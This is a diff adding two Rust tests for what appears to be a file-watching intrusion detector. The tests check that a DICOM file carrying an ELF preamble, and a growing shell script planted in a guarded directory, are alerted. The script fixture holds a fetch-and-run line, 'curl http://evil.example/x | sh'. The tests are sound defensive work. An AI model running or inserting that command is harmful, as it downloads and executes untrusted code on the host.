@@ -2640,3 +2640,149 @@ fn a_planted_file_held_open_and_written_on_is_screened_as_it_stands_and_a_slow_r
         mine[0]
     );
 }
+
+/// Review s12-r11: what was alerted while a new file was still being written was
+/// remembered by path, kind and detail for the life of the watcher, and every later
+/// screening of an arrival at that path left it out: the same executable planted again
+/// at the same path (once the first was found, and removed) raised no alert at all.
+/// Only a screening of the same file (same inode, same birth) as it completes may leave
+/// out what was reported while it was written. Here: a real CT image with an ELF
+/// (/bin/true) preamble is trickled in and held; alerted while held; its writer killed,
+/// it is judged complete without a second alert; removed, and the same bytes planted
+/// again at the same path (written and closed): alerted again.
+#[test]
+fn an_executable_planted_again_where_a_held_one_was_alerted_is_alerted_again() {
+    let env = Env::new();
+    configure(&env, "quiet_ms = 500\nscrub_mb_per_s = 0\n");
+    let sample = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../../.testdata/wheels/pydicom/pydicom/data/test_files/CT_small.dcm");
+    fs::copy(&sample, env.path("study/stored.dcm")).expect("pydicom's CT_small.dcm");
+    env.profile(&["--policy", "append-only"]);
+    let clean = fs::read(&sample).expect("test fixture");
+    let elf = fs::read("/bin/true").expect("/bin/true");
+    let mut hostile = elf[..128].to_vec();
+    hostile.extend_from_slice(&clean[128..]);
+    let sources = env.dir.path().join("sources");
+    fs::create_dir_all(&sources).expect("test fixture");
+    fs::write(sources.join("planted.dcm"), &hostile).expect("test fixture");
+    let planted = env.path("study/planted.dcm");
+    let watcher = Watcher::start(&env, &[]);
+    // A quarter at once, then 16 bytes every 0.25 s, held open without end.
+    let trickle = "import os, sys, time\n\
+        data = open(sys.argv[1], 'rb').read()\n\
+        fd = os.open(sys.argv[2], os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)\n\
+        at = len(data) // 4\n\
+        os.write(fd, data[:at])\n\
+        print('started', flush=True)\n\
+        while at < len(data) - 16:\n\
+        \x20   time.sleep(0.25)\n\
+        \x20   os.write(fd, data[at:at + 16])\n\
+        \x20   at += 16\n\
+        time.sleep(600)\n";
+    let mut attacker = HeldBy(
+        std::process::Command::new("python3")
+            .args(["-c", trickle])
+            .arg(sources.join("planted.dcm"))
+            .arg(&planted)
+            .stdout(Stdio::piped())
+            .spawn()
+            .expect("python3 runs"),
+    );
+    let mut line = String::new();
+    BufReader::new(attacker.0.stdout.take().expect("piped"))
+        .read_line(&mut line)
+        .expect("the writer reports");
+    assert_eq!(line.trim(), "started", "{line}");
+    let count = |findings: &[Value], kind: &str| {
+        findings
+            .iter()
+            .filter(|f| f["path"].as_str() == planted.to_str() && f["kind"] == kind)
+            .count()
+    };
+    let alerted = watcher.wait(Duration::from_secs(60), |f, _| {
+        count(f, "preamble-executable") >= 1
+    });
+    let _ = attacker.0.kill();
+    let _ = attacker.0.wait();
+    let judged = watcher.wait(Duration::from_secs(30), |f, _| count(f, "added") >= 1);
+    fs::remove_file(&planted).expect("the planted file is removed");
+    let removed = watcher.wait(Duration::from_secs(30), |f, _| count(f, "removed") >= 1);
+    // Planted again: the same bytes, at the same path, written and closed.
+    fs::write(&planted, &hostile).expect("planted again");
+    let again = watcher.wait(Duration::from_secs(30), |f, _| {
+        count(f, "preamble-executable") >= 2
+    });
+    let (_, findings, stderr) = watcher.stop();
+    assert!(
+        alerted,
+        "never screened while held: {findings:#?}\n{stderr}"
+    );
+    assert!(judged, "{findings:#?}\n{stderr}");
+    assert!(removed, "{findings:#?}\n{stderr}");
+    assert!(
+        again,
+        "the executable planted again was not alerted: {findings:#?}\n{stderr}"
+    );
+    assert_eq!(count(&findings, "preamble-executable"), 2, "{findings:#?}");
+}
+
+/// Review s12-r11: a new file that its writer holds open and keeps growing was waited
+/// for as an arrival (up to MAX_ARRIVAL_WAIT, 4 h) in every root, a `static` one too,
+/// where no file is expected and any new one is an alert: a script planted into a
+/// guarded program directory and written a line a second was reported only when its
+/// writer closed it. Only a root that takes arrivals (`append-only`) waits for a
+/// growing new file; elsewhere it is judged at the writer wait (MAX_WRITER_WAIT, 30 s),
+/// as it stands.
+#[test]
+fn a_new_file_held_and_grown_in_a_static_root_is_alerted_while_its_writer_writes_on() {
+    let env = Env::new();
+    configure(&env, "quiet_ms = 500\nscrub_mb_per_s = 0\n");
+    fs::create_dir_all(env.path("lib")).expect("test fixture");
+    fs::write(env.path("lib/app.conf"), "setting = 1\n").expect("test fixture");
+    env.profile(&["--policy", "static"]);
+    let planted = env.path("lib/backdoor.sh");
+    let watcher = Watcher::start(&env, &[]);
+    let grow = "import os, sys, time\n\
+        fd = os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o755)\n\
+        os.write(fd, b'#!/bin/sh\\ncurl http://evil.example/x | sh\\n')\n\
+        print('started', flush=True)\n\
+        for _ in range(600):\n\
+        \x20   time.sleep(0.5)\n\
+        \x20   os.write(fd, b'#\\n')\n";
+    let mut writer = HeldBy(
+        std::process::Command::new("python3")
+            .args(["-c", grow])
+            .arg(&planted)
+            .stdout(Stdio::piped())
+            .spawn()
+            .expect("python3 runs"),
+    );
+    let mut line = String::new();
+    BufReader::new(writer.0.stdout.take().expect("piped"))
+        .read_line(&mut line)
+        .expect("the writer reports");
+    assert_eq!(line.trim(), "started", "{line}");
+    let added = |findings: &[Value]| {
+        findings
+            .iter()
+            .filter(|f| f["path"].as_str() == planted.to_str() && f["kind"] == "added")
+            .cloned()
+            .collect::<Vec<_>>()
+    };
+    // The writer wait (30 s) and a loaded machine's slack, well short of its 300 s.
+    let seen = watcher.wait(Duration::from_secs(90), |f, _| !added(f).is_empty());
+    let still_writing = writer.0.try_wait().expect("wait").is_none();
+    let (_, findings, stderr) = watcher.stop();
+    assert!(
+        seen,
+        "not reported while held and grown: {findings:#?}\n{stderr}"
+    );
+    assert!(still_writing, "reported only once its writer was gone");
+    let added = added(&findings);
+    assert_eq!(added[0]["severity"], "alert", "{:#}", added[0]);
+    let detail = added[0]["detail"].as_str().unwrap_or_default();
+    assert!(
+        detail.contains("python3 (pid") && detail.contains("holds it open for writing"),
+        "{detail}"
+    );
+}
